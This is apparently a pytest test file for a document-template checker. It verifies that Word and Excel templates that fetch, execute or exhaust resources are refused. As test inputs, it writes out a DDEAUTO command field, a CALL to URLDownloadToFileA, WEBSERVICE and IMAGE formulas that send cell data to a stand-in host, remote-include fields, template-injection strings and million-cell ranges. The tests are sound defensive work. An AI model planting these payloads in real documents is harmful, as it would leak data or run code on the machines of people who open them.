"""Templates that would fetch, run or carry something away, however it is written."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from domain.paper import Filling, NotATemplate, TemplateTooLarge
from views.docx_filling import filled_docx
from views.fields import BLANK
from views.template_check import judge_template
from views.xlsx_filling import filled_xlsx

LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def saved(made: Any) -> bytes:
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def letter(*lines: str) -> Any:
    made: Any = docx.Document()
    for line in lines or ("{{应到}}",):
        made.add_paragraph(line)
    return made


def table(**cells: object) -> Any:
    made: Any = openpyxl.Workbook()
    for place, value in {"A1": "{{应到}}", **cells}.items():
        made.active[place] = value
    return made


def changed(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The file with one part another way, or one more."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {one.filename: archive.read(one) for one in archive.infolist()}
    parts[part] = change(parts.get(part, b""))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_link(data: bytes, link: str) -> bytes:
    """A letter with one more link of its document."""
    return changed(
        data,
        "word/_rels/document.xml.rels",
        lambda was: was.replace(b"</Relationships>", f"{link}</Relationships>".encode()),
    )


def field(*pieces: str) -> Any:
    """A paragraph with a field as Word writes it, its words in pieces; { and } are one within."""
    made = letter()
    run = made.add_paragraph().add_run()
    for piece in ("{", *pieces, "}"):
        if piece in ("{", "}"):
            mark = OxmlElement("w:fldChar")
            mark.set(qn("w:fldCharType"), "begin" if piece == "{" else "end")
        else:
            mark = OxmlElement("w:instrText")
            mark.text = piece
        run._r.append(mark)
    return made


def reasons(file: str, data: bytes) -> list[str]:
    judged = judge_template(file, data)
    assert judged is not None
    return [one.reason for one in judged.faults]


def test_a_plain_letter_and_a_plain_table_reach_nowhere() -> None:
    assert reasons("文.docx", saved(letter())) == []
    assert reasons("表.xlsx", saved(table(B1="=SUM(A1:A1)", B2='=IF(A1>0,"x","|")'))) == []


@pytest.mark.parametrize(
    ("link", "reason"),
    [
        (f'<Relationship Id="x" Type="{LINK}/image" Target="http://e/x" TargetMode="External"/>',
         "outside"),
        (f"<Relationship Id='x' Type='{LINK}/image' Target='http://e/x' TargetMode = 'External'/>",
         "outside"),
        (f'<Relationship Id="x" Target="http://e/hyperlink" Type="{LINK}/attachedTemplate"'
         ' TargetMode="External"/>', "outside"),
        (f'<Relationship Id="x>" Type="{LINK}/image" Target="http://e/x"'
         ' TargetMode="&#69;xternal"/>', "outside"),
        (f'<Relationship Id="x" Type="{LINK}/aFChunk" Target="chunk.html"/>', "outside"),
        (f'<Relationship Id="x" Type="{LINK}/oleObject" Target="embeddings/x.bin"/>', "outside"),
        (f'<Relationship Id="x" Type="{LINK}/control" Target="x.xml"/>', "macros"),
    ],
)  # fmt: skip
def test_a_link_that_is_fetched_is_found_however_it_is_written(link: str, reason: str) -> None:
    data = with_link(saved(letter()), link)
    for part in ("chunk.html", "embeddings/x.bin", "x.xml"):
        if part in link:
            data = changed(data, f"word/{part}", lambda was: b"<p/>")
    for ending in (b"html", b"bin"):
        data = changed(data, "[Content_Types].xml", lambda was, e=ending: was.replace(  # type: ignore[misc]
            b"</Types>", b'<Default Extension="' + e + b'" ContentType="x/y"/></Types>'
        ))  # fmt: skip
    assert reasons("文.docx", data) == [reason]


def test_a_link_that_one_presses_may_stay() -> None:
    link = f'<Relationship Id="x" Type="{LINK}/hyperlink" Target="a" TargetMode="External"/>'
    assert reasons("文.docx", with_link(saved(letter()), link)) == []


@pytest.mark.parametrize(
    "pieces",
    [
        ["INCLUDEPICTURE ", '"http://e/x.png" \\d'],
        [" include", "text ", '"http://e/x.docx"'],
        ["DDEAUTO c:\\\\x cmd"],
        ["HYPERLINK ", "{", "REF name", "}"],
        ["{", "QUOTE INCLUDEPICTURE", "}", ' "http://e/"'],
        ["MACROBUTTON x y"],
    ],
)
def test_a_field_that_fetches_is_refused(pieces: list[str]) -> None:
    assert reasons("文.docx", saved(field(*pieces))) == ["field"]


@pytest.mark.parametrize("words", ["PAGE", " NUMPAGES \\* ARABIC", '= 1 + 1', "=1+1",
                                   'HYPERLINK "http://a/"'])  # fmt: skip
def test_a_field_that_looks_no_further_than_the_letter_may_stay(words: str) -> None:
    assert reasons("文.docx", saved(field(words))) == []


@pytest.mark.parametrize(
    "formula",
    [
        '=IMAGE("http://e/"&A1)',
        '=_xlfn.IMAGE("http://e/"&A1)',
        '=HYPERLINK("http://e/"&A1,"x")',
        "='http://e/[x.xlsx]Sheet'!A1",
        "='\\\\e\\[x.xlsx]Sheet'!A1",
        "=[x.xlsx]Sheet!A1",
        '=CALL("urlmon","URLDownloadToFileA","JJ")',
        "=" + "1+" * 5000 + "1",
    ],
)
def test_a_formula_that_asks_elsewhere_is_refused(formula: str) -> None:
    assert reasons("表.xlsx", saved(table(C3=formula))) == ["reaches_out"]


def test_formulas_behind_names_and_checks_are_looked_at_too() -> None:
    made = table(B2="=Net")
    made.defined_names["Net"] = DefinedName("Net", attr_text='WEBSERVICE("http://e/"&Sheet!$A$1)')
    assert reasons("表.xlsx", saved(made)) == ["reaches_out"]
    made = table()
    made.active.add_data_validation(
        DataValidation(type="custom", formula1='WEBSERVICE("http://e/")=1', sqref="A1")
    )
    assert reasons("表.xlsx", saved(made)) == ["reaches_out"]


# -- what would keep the program busy ----------------------------------------------------------


@pytest.mark.parametrize(
    "mark",
    [
        b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>',
        b'<mergeCells count="1"><mergeCell ref="A:C"/></mergeCells>',
    ],
)
def test_one_mark_for_a_million_cells_is_refused_before_it_is_opened(mark: bytes) -> None:
    data = changed(
        saved(table()),
        "xl/worksheets/sheet1.xml",
        lambda was: was.replace(b"</sheetData>", b"</sheetData>" + mark),
    )
    with pytest.raises(TemplateTooLarge):
        judge_template("表.xlsx", data)


def test_a_cell_far_away_on_every_sheet_is_refused_before_they_are_walked() -> None:
    made = table(GR2000=1)
    with pytest.raises(TemplateTooLarge):
        judge_template("表.xlsx", saved(made))


def test_rows_that_repeat_without_end_are_refused() -> None:
    rows: dict[str, object] = {f"A{row}": "{{班级.名称}}" for row in range(2, 23)}
    assert reasons("表.xlsx", saved(table(**rows))) == ["repeats"]
    del rows["A22"]
    assert reasons("表.xlsx", saved(table(**rows))) == []
    with pytest.raises(TemplateTooLarge):
        judge_template("文.docx", saved(letter("{{x}}" * 2001)))


def test_a_million_spaces_are_no_blank_and_keep_nobody_busy() -> None:
    assert BLANK.findall("{{" + " " * 1_000_000) == []
    assert BLANK.findall("{{ " * 100_000) == []
    assert BLANK.findall("{{  应 到  }}{{x}}｛｛实到｝｝") == ["应 到", "x", "实到"]
    assert BLANK.findall("{{" + "长" * 40 + "}}{{" + "长" * 41 + "}}") == ["长" * 40]


@pytest.mark.parametrize("file", ["文.docx", "表.xlsx"])
@pytest.mark.parametrize(
    "content",
    [
        b"<a",
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b'<?xml version="1.0" encoding="nonsense"?><a/>',
    ],
)
def test_a_part_that_only_others_can_read_is_refused(file: str, content: bytes) -> None:
    data = saved(letter() if file.endswith("docx") else table())
    with pytest.raises(NotATemplate):
        judge_template(file, changed(data, "docProps/app.xml", lambda was: content))


def test_a_part_that_hides_behind_another_ending_is_refused() -> None:
    declared = (b'<Override PartName="/word/x.bin" ContentType="application/vnd.openxmlformats'
                b'-officedocument.wordprocessingml.footer+xml"/></Types>')  # fmt: skip
    data = changed(
        saved(letter()), "[Content_Types].xml", lambda was: was.replace(b"</Types>", declared)
    )
    with pytest.raises(NotATemplate):
        judge_template("文.docx", data)


@pytest.mark.parametrize("words", ["{{ ''.__class__ }}", "{% for x in y %}{{x}}{% endfor %}",
                                   "{{7*7}}"])  # fmt: skip
def test_an_expression_is_an_unknown_field_and_never_runs(words: str) -> None:
    judged = judge_template("文.docx", saved(letter(words)))
    assert judged is not None
    assert [one.reason for one in judged.faults] == ["unknown"]
    filled = docx.Document(io.BytesIO(filled_docx(saved(letter(words)), Filling({}, {}))))
    assert "49" not in "".join(one.text for one in filled.paragraphs)
    assert "type" not in "".join(one.text for one in filled.paragraphs)


def test_a_form_that_would_grow_without_end_is_not_filled() -> None:
    many = Filling({}, {"class": [{"name": "一年级1班"}] * 5000})
    rows: dict[str, object] = {f"A{row}": "{{班级.名称}}" for row in range(2, 22)}
    with pytest.raises(TemplateTooLarge):
        filled_xlsx(saved(table(GR1=1, **rows)), many, "")
    with pytest.raises(TemplateTooLarge):
        filled_docx(saved(letter("{{班级.名称}}" + "长" * 10_000)), many)
    assert filled_xlsx(saved(table(A2="{{班级.名称}}")), many, "")
